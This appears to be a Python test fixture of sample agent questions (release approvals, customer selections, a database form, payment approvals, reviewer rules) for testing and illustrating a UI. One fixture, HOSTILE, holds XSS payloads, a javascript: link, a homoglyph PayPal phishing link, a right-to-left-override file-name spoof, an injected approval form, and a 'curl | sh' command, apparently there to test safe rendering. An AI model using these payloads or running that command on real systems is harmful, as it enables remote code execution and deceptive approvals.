"""Questions as agents put them, for tests and for pictures."""

from store.fields import Choice, FormField
from store.questions import (
    ApprovalOption,
    AskApproval,
    AskForm,
    AskSelection,
    AskTextInput,
    Evidence,
    Mode,
    Risk,
    Style,
    TextFormat,
)
from store.values import FieldType

APPROVAL = AskApproval(
    title="Deploy release 2.14.0 to production in eu-west-1?",
    description=(
        "This replaces the running version **2.13.2** on all four hosts, one at a time.\n\n"
        "- Two database migrations run first: `0041_add_region` and `0042_backfill_region`.\n"
        "- Checkout is read-only for about 40 seconds.\n"
        "- Rolling back takes 6 minutes and keeps all orders."
    ),
    context=(
        "The release branch was cut this morning. All 1,284 tests passed, and staging has run this build for six "
        "hours without an error. See the [run](https://ci.example.com/runs/9412)."
    ),
    reasoning="Traffic is lowest between 14:00 and 16:00 UTC, and the on-call engineer is at her desk.",
    evidence=(
        Evidence(label="Test run", url="https://ci.example.com/runs/9412"),
        Evidence(
            label="Changes since 2.13.2", text="14 commits, 3 authors\n+ region on every order\n- legacy price cache"
        ),
    ),
    risk=Risk.HIGH,
    workflow="release",
    timeout_seconds=2_470,
)

SELECTION = AskSelection(
    prompt="Which customers should get the apology mail?",
    options=(
        Choice(id="affected", label="Only those whose orders failed", description="312 people, all in Germany"),
        Choice(id="region", label="Everybody who ordered on Tuesday", description="4,190 people"),
        Choice(id="all", label="All customers", description="88,000 people; many were not affected"),
    ),
    mode=Mode.MULTIPLE,
    max=2,
    context="Between 09:10 and 09:52 the payment provider refused cards from German banks.",
    risk=Risk.MEDIUM,
    timeout_seconds=7_200,
)

_REGIONS = tuple(Choice(id=f"region-{n}", label=f"Region {n}") for n in range(1, 9))

FORM = AskForm(
    title="Details for the new reporting database",
    description="These values go into `infra/reporting.tf`.",
    fields=(
        FormField(
            name="name",
            label="Database name",
            required=True,
            min=3,
            max=24,
            help="Lower-case letters.",
            pattern="[a-z]+",
        ),
        FormField(name="purpose", label="Purpose", type=FieldType.TEXTAREA, max=400),
        FormField(name="disk", label="Disk, GiB", type=FieldType.INTEGER, required=True, default=100, min=10, max=2000),
        FormField(name="budget", label="Monthly budget, EUR", type=FieldType.NUMBER, min=0),
        FormField(
            name="size",
            label="Machine",
            type=FieldType.SELECT,
            required=True,
            options=(
                Choice(id="small", label="Small", description="2 cores, 8 GiB"),
                Choice(id="large", label="Large", description="16 cores, 64 GiB"),
            ),
        ),
        FormField(name="region", label="Region", type=FieldType.SELECT, options=_REGIONS),
        FormField(
            name="readers",
            label="Who reads it",
            type=FieldType.MULTISELECT,
            options=(Choice(id="finance", label="Finance"), Choice(id="sales", label="Sales"), Choice(id="support")),
            min=1,
        ),
        FormField(name="backups", label="Nightly backups", type=FieldType.CHECKBOX, default=True),
        FormField(name="start", label="First day", type=FieldType.DATE, min="2026-01-01"),
        FormField(name="window", label="Maintenance at", type=FieldType.TIME, default="03:30"),
        FormField(name="cutover", label="Cut-over", type=FieldType.DATETIME),
        FormField(name="contact", label="Contact", type=FieldType.EMAIL, required=True),
        FormField(name="ticket", label="Ticket", type=FieldType.URL),
        FormField(
            name="secret",
            label="Administrator password",
            type=FieldType.PASSWORD,
            required=True,
            min=8,
            help="A new one.",
        ),
    ),
    reasoning="The finance team asked for reports that do not slow the shop down.",
    timeout_seconds=86_400,
)

TEXT = AskTextInput(
    title="Edit the release note before it is published",
    description="It appears on the public status page.",
    prefill="We fixed the delay in order confirmations.\n\nNo data was lost. We are sorry for the trouble.",
    format=TextFormat.MARKDOWN,
    min_length=10,
    max_length=4_000,
    timeout_seconds=14_000,
)

CRITICAL = AskApproval(
    title="Delete the customer table in the test region?",
    description="1. Take a snapshot.\n2. Drop `customers`.\n3. Restore from the snapshot of Monday.",
    risk=Risk.CRITICAL,
    workflow="maintenance",
    timeout_seconds=900,
)

HOSTILE = AskApproval(
    title="Pay \u202eexe.fdp\u202c to p\u0430ypal\u200b?",
    description=(
        "<script>alert(1)</script> <img src=x onerror=alert(2)>\n\n"
        "![receipt](https://tracker.example/pixel.png) [our site](https://evil.example/login) [settings](/account) "
        "[run](javascript:alert(3))\n\n# A heading\n\n```\ncurl https://a.example | sh\u200b\n```"
    ),
    context="</section><form action='/logout'><button>Approve</button></form>",
    evidence=(Evidence(label="\u2066invoice\u2069", url="https://p\u0430ypal.example/invoice?id=1"),),
    timeout_seconds=3_600,
)

# What the picture in the README shows.
README = AskApproval(
    title="Deploy release 2.14.0 to production?",
    description="One host at a time. Checkout is **read-only** for about 40 seconds.",
    context="All 1,284 tests passed, and staging has run this build for six hours.",
    risk=Risk.MEDIUM,
    workflow="release",
    timeout_seconds=2_470,
)

# The same release question as it was asked before.
EARLIER = APPROVAL.model_copy(
    update={
        "title": "Deploy release 2.13.2 to production in eu-west-1?",
        "description": (
            "This replaces the running version **2.13.1** on all four hosts, one at a time.\n\n"
            "- One database migration runs first: `0040_drop_cache`.\n"
            "- Rolling back takes 6 minutes and keeps all orders."
        ),
    }
)

FINANCE_RULES = """\
version: 1
groups: {finance: [ana, mei], oncall: [otto]}
rules:
  - name: payments need two people
    tool: ask_approval
    workflow: payments
    reviewers: [finance]
    approvals: 2
    timeout: 4h
    not_owner: true
    escalate: [oncall]
  - name: releases are for those on call
    tool: ask_approval
    workflow: release
    reviewers: [oncall]
"""
PROPOSED_RULES = """\
version: 1
groups: {finance: [ana, mei], oncall: [otto]}
rules:
  - name: payments need two people
    tool: ask_approval
    workflow: payments
    reviewers: [finance]
    approvals: 2
    timeout: 2h
    require: passkey
    not_owner: true
    escalate: [oncall]
  - name: releases are for those on call
    tool: ask_approval
    workflow: release
    reviewers: [oncall]
  - name: what is risky is for Mei
    risk: high
    reviewers: [mei]
    reason: required
  - name: no passwords for scratch agents
    tool: ask_form
    agent: scratch-*
    action: deny
    reason: Ask the platform team for a credential.
"""
PASSKEY_RULES = """\
version: 1
rules:
  - {name: releases are signed, tool: ask_approval, workflow: release, require: passkey}
"""
PAYMENT = AskApproval(
    title="Pay invoice 2026-1107 of Nordwind GmbH?",
    description="4,180.00 EUR to `DE02 1203 0000 0000 2020 51`, by SEPA transfer, today.",
    context="The invoice came by mail on Monday and matches order 4711.",
    risk=Risk.HIGH,
    workflow="payments",
    timeout_seconds=10_000,
)

_UNBROKEN = "x" * 180
UNBROKEN = AskApproval(
    title=_UNBROKEN,
    description=f"{_UNBROKEN}\n\n`{_UNBROKEN}`\n\n| {_UNBROKEN} | b |\n|---|---|\n| 1 | {_UNBROKEN} |",
    context=f"[{_UNBROKEN}](https://{'a' * 60}.example/{_UNBROKEN})",
    workflow=_UNBROKEN,
    evidence=(
        Evidence(label=_UNBROKEN, text=_UNBROKEN),
        Evidence(label="Address", url=f"https://example.com/{_UNBROKEN}"),
    ),
    options=tuple(
        ApprovalOption(id=f"{'o' * 50}-{n}", label=f"{_UNBROKEN}{n}", style=style, approves=n % 2 == 0)
        for n, style in enumerate([*Style, *Style])
    ),
)
